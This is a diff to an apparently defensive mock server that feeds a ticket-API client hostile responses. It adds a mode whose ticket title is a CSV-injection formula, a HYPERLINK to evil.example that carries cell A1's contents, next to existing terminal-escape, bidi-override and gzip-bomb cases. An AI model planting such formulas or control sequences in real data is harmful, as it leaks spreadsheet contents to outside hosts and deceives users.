@@ -17,6 +17,7 @@
 //! | `lying-total` | says `total` is 10^12 and every page holds the same ticket |
 //! | `escape-text` | 400 whose `error_msg` holds ESC, OSC, BEL, C1 and bidi controls |
 //! | `escape-ticket` | one ticket whose title, status and site name hold the same controls |
+//! | `formula-title` | one ticket whose title is a spreadsheet formula |
 //! | `year-minus-1` | one ticket `updated` in year -1 |
 //! | `unauthorized` | 401 with an error body |
 //! | `unmapped-status` | 1000 tickets whose status no document lists |
@@ -42,6 +43,7 @@ pub const MODES: &[&str] = &[
     "lying-total",
     "escape-text",
     "escape-ticket",
+    "formula-title",
     "year-minus-1",
     "unauthorized",
     "unmapped-status",
@@ -52,6 +54,9 @@ pub const MODES: &[&str] = &[
 /// override that makes `exe.txt` read as `txt.exe`.
 pub const HOSTILE_TEXT: &str =
     "boom\u{1b}]0;pwned\u{7}\u{1b}[2J\u{1b}[31mred\u{9b}1m \u{202e}txt.exe";
+
+/// A title a spreadsheet would run (OWASP "CSV Injection").
+pub const FORMULA: &str = "=HYPERLINK(\"http://evil.example/?\"&A1,\"open\")";
 
 /// Decompressed size of the gzip bomb.
 pub const BOMB_SIZE: u64 = 1 << 30;
@@ -104,6 +109,10 @@ async fn answer(Path(mode): Path<String>, RawQuery(query): RawQuery) -> Response
             t["site_name"] = json!(HOSTILE_TEXT);
             json_response(page(1, vec![t]))
         }
+        "formula-title" => json_response(page(
+            1,
+            vec![ticket("2025-06-01 10:00:00+0000", "ASSIGNED", FORMULA)],
+        )),
         "year-minus-1" => json_response(page(
             1,
             vec![ticket(
